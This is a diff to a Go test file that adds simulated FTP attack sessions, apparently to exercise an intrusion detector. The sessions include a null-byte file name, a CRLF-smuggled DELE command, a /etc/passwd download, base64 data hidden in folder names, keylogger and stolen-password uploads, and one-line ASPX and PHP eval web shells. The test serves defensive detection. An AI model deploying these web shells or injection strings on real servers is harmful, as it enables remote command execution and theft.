@@ -3,6 +3,7 @@
 package baseline
 
 import (
+	"encoding/base64"
 	"fmt"
 	"strings"
 	"testing"
@@ -153,6 +154,19 @@ var attacks = []struct {
 			dial(f, fmt.Sprintf("198.51.100.%d", i+10), aServer+":21").Say(fmt.Sprintf("< 220 hi\n> USER root\n< 331 and?\n> PASS pw%d\n< 530 no", i) + bye).Close()
 		}
 	}},
+	{"a name with another behind a zero", "arguments-are-text", session1("> RETR a.php\x00.jpg\n< 150 here\n< 226 done")},
+	{"a command behind an encoded line end", "no-known-exploits", session1("> RETR a%0d%0aDELE b\n< 550 no")},
+	{"the accounts of the server", "no-signs-agree", moved("RETR /etc/passwd", answerer, "root:x:0:0:root:/root:/bin/bash\n")},
+	{"data in the names of folders", "names-are-words", session1(encodedFolders(10))},
+	{"orders, and data in the names of folders", "no-signs-agree", session1(strings.Repeat("> RETR news.txt\n< 150 here\n< 226 done\n", 20) + encodedFolders(5))},
+	{"the keys of a keyboard", "no-loot", moved("STOR log_7.txt", opener, "[Window: Mail]\nada[TAB]secret[ENTER]\n")},
+	{"an archive of stolen passwords", "no-loot", moved("STOR DESKTOP-7.zip", opener, "PK\x03\x04\x14\x00\x00\x00\x08\x00a date, and sizes Passwords.txt")},
+	{"a web page of .NET that runs what it is sent", "no-loot", moved("STOR a.aspx", opener, `<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>`)},
+	{"connections that only wait", "calls-are-meant", func(f *forge.Capture) {
+		for range 60 {
+			f.Control().Say("< 220 ready")
+		}
+	}},
 	{"a traversal in two steps", "no-climbing", session1("> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no")},
 	{"a web shell behind a long page", "no-loot", moved("STOR about.php", opener, strings.Repeat(webPage, 100)+`<?php @eval(base64_decode($_POST["z0"])); ?>`)},
 	{"a shell of .NET", "no-loot", moved("STOR about.aspx", opener, `<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`)},
@@ -197,6 +211,15 @@ var attacks = []struct {
 		t.Peer.Segment("P.", "250 ok\r\n")
 		t.Peer.SegmentAt(-8, "P.", "226 no\r\n")
 	}},
+}
+
+// encodedFolders makes folders with names that are texts in base64.
+func encodedFolders(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "> MKD %s\n< 257 ok\n", base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "the %d. part of it", i)))
+	}
+	return b.String()
 }
 
 func TestAttacks(t *testing.T) {
